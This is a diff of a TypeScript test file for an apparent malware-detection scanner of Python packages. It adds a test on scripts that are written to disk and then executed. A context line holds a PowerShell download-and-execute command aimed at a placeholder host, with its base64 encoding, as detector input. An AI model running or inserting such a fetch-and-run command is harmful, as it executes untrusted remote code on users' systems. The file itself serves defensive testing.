@@ -134,6 +134,23 @@ test('a download and a process are one act only when the data flows from one to 
   assert.ok(!facts(otherFunction).some((f) => f.startsWith('process:') && f.includes('dropped')), 'a name in another function is another variable');
 });
 
+test('a file written from a literal and then run is a script of that process; a file written and not run is not', () => {
+  const scriptsOf = (source: string): string[] => {
+    const tree = parser.parse(source);
+    try {
+      return moduleFacts(new ModuleModel(tree.rootNode), 'package').flatMap((f) => f.scripts ?? []);
+    } finally {
+      tree.delete();
+    }
+  };
+  const byHandle = 'import os, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b"print(1)  # the inert script")\nt.close()\nos.system(f"python {t.name}")';
+  assert.deepEqual(scriptsOf(byHandle), ['print(1)  # the inert script']);
+  const byPath = 'import subprocess, sys\nwith open("job_step.py", "w") as f:\n    f.write("print(2)  # the inert script")\nsubprocess.run([sys.executable, "job_step.py"])';
+  assert.deepEqual(scriptsOf(byPath), ['print(2)  # the inert script']);
+  const notRun = 'import subprocess\nwith open("notes.txt", "w") as f:\n    f.write("print(3)  # only text here")\nsubprocess.run(["git", "status"])';
+  assert.deepEqual(scriptsOf(notRun), []);
+});
+
 test('command lines: PowerShell -EncodedCommand is decoded, python -c is kept for a Python scan', () => {
   const script = 'IEX (New-Object Net.WebClient).DownloadString("https://example.invalid/a")';
   const encoded = Buffer.from(script, 'utf16le').toString('base64');
